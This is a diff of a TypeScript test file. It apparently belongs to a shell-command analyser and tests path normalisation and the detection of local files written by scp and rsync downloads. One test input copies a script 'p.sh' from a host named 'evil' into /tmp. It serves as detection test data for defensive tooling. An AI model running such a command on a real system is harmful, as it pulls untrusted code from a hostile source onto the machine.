@@ -1,5 +1,6 @@
 import { describe, expect, test } from "bun:test";
-import { downloadTargets, fileKey } from "./files.ts";
+import { downloadTargets } from "./files.ts";
+import { normalisePath, resolveIn } from "./paths.ts";
 
 const targets = (command: string) => {
   const [name = "", ...args] = command.split(" ");
@@ -31,9 +32,19 @@ describe("files a downloader writes", () => {
   });
 });
 
-test("file keys resolve ./, .. and the working directory lexically", () => {
-  expect(fileKey("./f", ".")).toBe("f");
-  expect(fileKey("f", "/tmp")).toBe("/tmp/f");
-  expect(fileKey("/tmp/./a/../f", "/x")).toBe("/tmp/f");
-  expect(fileKey("../f", ".")).toBe("../f");
+test("paths resolve ./, .., ~ and the working directory lexically", () => {
+  expect(resolveIn("./f", "?")).toBe("f");
+  expect(resolveIn("f", "/tmp")).toBe("/tmp/f");
+  expect(resolveIn("/tmp/./a/../f", "/x")).toBe("/tmp/f");
+  expect(resolveIn("../f", "?")).toBe("../f");
+  expect(resolveIn("../..", "~")).toBe("~/../..");
+  expect(normalisePath("~/a/../..")).toBe("~/..");
+  expect(normalisePath("/usr/../..")).toBe("/");
+  expect(normalisePath("~root/x")).toBe("/root/x");
+});
+
+test("scp and rsync from another machine download into the local target", () => {
+  expect(targets("scp evil:p.sh /tmp/p.sh")).toEqual(["/tmp/p.sh"]);
+  expect(targets("rsync -a u@h:/x ./x")).toEqual(["./x"]);
+  expect(targets("scp dist/app.tgz node1:/tmp/")).toEqual([]);
 });
